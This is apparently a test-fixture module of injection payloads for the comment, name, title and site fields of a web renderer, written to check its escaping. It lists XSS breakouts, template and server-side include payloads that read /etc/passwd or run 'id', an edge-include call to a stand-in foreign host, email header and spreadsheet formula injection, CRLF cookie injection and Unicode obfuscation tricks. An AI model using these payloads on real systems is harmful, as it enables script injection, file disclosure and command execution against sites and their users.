// Payloads that break out of the places of comments, names and titles. See xss-payloads.mjs for the notation.

export default {
  'Out of where it stands': String.raw`
"><img src=x onerror=CANARY>
'><img src=x onerror=CANARY>
⟦60⟧><img src=x onerror=CANARY>
" onmouseover="CANARY
" autofocus onfocus="CANARY" x="
' onmouseover='CANARY
x onmouseover=CANARY
--><img src=x onerror=CANARY>
]]><img src=x onerror=CANARY>
]]>]]&gt;<![CDATA[<script>CANARY</script>
</script><script>CANARY</script>
</content></entry></feed><script xmlns="http://www.w3.org/1999/xhtml">CANARY</script>
</title></head><body onload=CANARY>
</textarea><img src=x onerror=CANARY>
</style></title></textarea></script></noscript></template><svg onload=CANARY>
","html":"<img src=x onerror=CANARY>"}],"x":[{"y":"
\",\"html\":\"<img src=x onerror=CANARY>
\"-CANARY-\"
'-CANARY-'
$⟦7b⟧CANARY}
{{CANARY}}
{{constructor.constructor('CANARY')()}}
{{ "<img src=x onerror=CANARY>" | safeHTML }}
{{% raw %}}<img src=x onerror=CANARY>{{% /raw %}}
{{< figure src="x" onerror="CANARY" >}}
{% raw %}<img src=x onerror=CANARY>{% endraw %}
{{ readFile "/etc/passwd" }}<img src=x onerror=CANARY>
{% include "/etc/passwd" %}{# x #}
{{ author|safe }}<svg onload=CANARY>
<%= CANARY %>#{CANARY}
<esi:include src="//FOREIGN"/>
<!--#exec cmd="id"--><!--#include virtual="/etc/passwd"-->
a⟦2028⟧CANARY⟦2029⟧<script>CANARY</script>
__proto__
constructor
%s%n%x%00<script>CANARY</script>`,

  'Seen and unseen': String.raw`
⟦202e⟧nimda<img src=x onerror=CANARY>
⟦2066⟧⟦2067⟧⟦2068⟧<svg onload=CANARY>
a⟦200b⟧b⟦200d⟧c⟦feff⟧<img src=x onerror=CANARY>
<⟦200b⟧img src=x onerror=CANARY>
<⟦0⟧script>CANARY</script>
<scr⟦0⟧ipt>CANARY</script>
<img src=x o⟦0⟧nerror=CANARY>
<img src=x onerror=CANARY⟦0⟧>
⟦1b⟧[31m⟦7⟧<img src=x onerror=CANARY>
⟦fffe⟧⟦ffff⟧<img src=x onerror=CANARY>
⟦85⟧⟦9b⟧<img src=x onerror=CANARY>
⟦1f600⟧⟦10ffff⟧<img src=x onerror=CANARY>
ſcript ⟦130⟧mg <ſcript>CANARY</ſcript>
<ıframe onload=CANARY>
⟦301⟧⟦301⟧⟦301⟧<img src=x onerror=CANARY>`,

  'As the name of an author': String.raw`
<script>CANARY</script>
<svg onload=CANARY>
"><svg onload=CANARY>
<b onclick=CANARY>Ann</b>
" onfocus="CANARY" autofocus="
Ann" <root@FOREIGN>
Ann⏎Bcc: all@FOREIGN
Ann⟦d⟧⏎⟦d⟧⏎<svg onload=CANARY>
=?utf-8?q?=0d=0aBcc:_a@b.example?=
Ann, <a@b.example>, Bob
&lt;svg onload=CANARY&gt;
Ann⟦202e⟧nnA
=CANARY+cmd|' /C calc'!A0
{{.Site}}{% x %}
..%2f..%2fetc⟦2f⟧passwd`,

  'As the site of an author': String.raw`
javascript:CANARY
JAVASCRIPT:CANARY
javascript://example.org/%0aCANARY
java⟦9⟧script:CANARY
⟦1⟧javascript:CANARY
javascript&colon;CANARY
data:text/html,<script>CANARY</script>
vbscript:CANARY
//FOREIGN
https://FOREIGN"onmouseover="CANARY
https://FOREIGN'onmouseover='CANARY
https://FOREIGN><svg/onload=CANARY>
https://FOREIGN/#"><svg/onload=CANARY>
https://FOREIGN/?'"><svg/onload=CANARY>
https://a.example@FOREIGN
https://a.example\@FOREIGN
https://"onclick=CANARY//.example
https://a.example/{{x}}
https://a.example/%00%0d%0aSet-Cookie:a=b
https://[::1]/]]><x/>
http://a.example:javascript:CANARY`,
};
